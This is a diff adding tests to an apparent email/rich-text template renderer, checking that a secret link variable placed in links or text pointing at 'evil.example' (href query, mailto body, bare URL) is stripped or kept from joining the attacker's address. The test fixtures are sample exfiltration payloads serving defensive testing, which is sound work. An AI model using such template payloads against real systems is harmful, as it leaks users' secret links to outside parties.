@@ -76,6 +76,26 @@ test('a link whose address is not known is its words alone', () => {
   expect(renderRichText(body, variables, { link: 'javascript:x()' })).toBe('<p>Open it</p>')
 })
 
+test.each([
+  '<p><a href="https://evil.example/?u={{link}}">Open it</a></p>',
+  '<p><a href="mailto:x@evil.example?body={{link}}">Open it</a></p>',
+])('of %s, kept before it was refused, the words alone are left', (body) => {
+  const html = renderRichText(body, variables, { link: 'https://a.example/secret' })
+  expect(html).toBe('<p>Open it</p>')
+})
+
+test.each([
+  '<p>https://evil.example/?u={{link}}</p>',
+  '<p>https://evil.example/?u=<strong>{{link}}</strong></p>',
+  '<p>https://evil.example/?u=<a href="{{link}}">{{link}}</a></p>',
+])('of %s no reader of mail makes one address', (body) => {
+  const link = 'https://a.example/secret'
+  const html = renderRichText(body, variables, { link })
+  for (const said of [textOfHtml(html), renderText(body.replace(/<[^>]*>/g, ''), { link })])
+    expect(said.split(/\s+/)[0]).toBe('https://evil.example/?u=')
+  expect(html).toContain(`href="${link}"`)
+})
+
 test('as plain text it says the same, with addresses and lines', () => {
   const html = renderRichText(
     '<h2>For {{who}}</h2><p>{{said}}</p><ul><li>One</li></ul><p><a href="{{link}}">Open</a> {{link}}</p>',
